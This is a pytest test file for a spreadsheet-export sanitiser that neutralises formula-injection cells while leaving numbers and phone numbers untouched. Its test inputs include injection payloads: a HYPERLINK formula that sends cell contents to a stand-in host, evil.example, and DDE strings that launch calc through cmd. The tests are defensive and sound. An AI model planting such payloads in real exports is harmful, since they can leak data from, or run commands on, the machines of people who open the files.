"""Cells a spreadsheet would run are written as text; numbers and phone numbers are left as they are."""

import pytest

from funil.exports.safety import XLSX_CELL_MAX, formula_risk, formula_safe, safe_cell, xlsx_risk, xml_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+",
        "-1-1",
        "+55 11 98765-4321 =A1",
        "+55 (11) SUM(1)",
    ],
)
def test_a_cell_that_would_run_gets_a_leading_apostrophe(text):
    assert formula_safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "+55 11 98765-4321",
        "+1 (555) 010-9999",
        "+351 912 345 678",
        "+5511987654321",
        "-12.5",
        "-12,5",
        "+3",
        "-1,234.50",
        "-.5",
        "-1e5",
    ],
)
def test_numbers_and_phone_numbers_are_left_alone(text):
    assert formula_safe(text) == text


@pytest.mark.parametrize("text", ["", "Ana", "a=b", "São Paulo", "'=already text", " =1+1", "1+1"])
def test_plain_text_is_left_alone(text):
    assert formula_safe(text) == text


def test_a_short_plus_number_is_no_phone_but_a_number_all_the_same():
    assert formula_safe("+12 34") == "'+12 34"  # too few digits for a phone, and a space makes it no number
    assert formula_safe("+12") == "+12"


def test_safe_cell_takes_empty_cells():
    assert [safe_cell(None), safe_cell(""), safe_cell("=1"), safe_cell("ok")] == [None, "", "'=1", "ok"]


def test_xml_safe_drops_what_xlsx_cannot_hold_and_cuts_long_text():
    assert xml_safe("a\x00b\x07c\x1fd\te\nf\rg") == "abcd\te\nf\rg"
    assert xml_safe("Ação ✓") == "Ação ✓"
    assert len(xml_safe("x" * (XLSX_CELL_MAX + 10))) == XLSX_CELL_MAX


SAMPLES = [
    "",
    "Ana",
    "=1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "+55 11 98765-4321",
    "+55 (31) 3427-9750",
    "+5511987654321",
    "+12 34",
    "+12",
    "-12.5",
    "-12,5",
    "-1-1",
    "-1e5",
    "-",
    "+",
    "+cmd|' /C calc'!A0",
    "a\x07b",
    "ok\nnext",
    "x\x00=1",
    "+5511987654321\x00abc",
    "São Paulo",
]


def test_the_row_check_agrees_with_the_cell_functions_on_every_mix():
    """formula_risk and xlsx_risk look at a whole row at once; they must flag a row exactly when a cell in it
    would be changed (never miss one, and not flag plain rows, which is what makes them pay)."""
    import itertools

    for a, b, c in itertools.product(SAMPLES, repeat=3):
        row = (a, b, c)
        changed = any(formula_safe(cell) != cell for cell in row)
        assert formula_risk(row) >= changed, row
        if "\x00" not in "".join(row):
            assert formula_risk(row) == changed, row
            assert xlsx_risk(row) == (changed or any(xml_safe(cell) != cell for cell in row)), row
        else:
            assert formula_risk(row) and xlsx_risk(row)


def test_a_row_with_a_cell_that_is_no_text_counts_as_risky():
    assert formula_risk(("a", None)) and xlsx_risk((1, "b"))  # type: ignore[arg-type]


def test_rows_with_one_text_column_or_none_are_checked_as_tuples():
    from funil.exports.rows import _picker

    assert _picker([1])(("a", "=b", "c")) == ("=b",)
    assert _picker([])(("a",)) == ()
    assert _picker([0, 2])(("a", "b", "c")) == ("a", "c")
    assert not formula_risk(()) and formula_risk(_picker([1])(("a", "=b")))
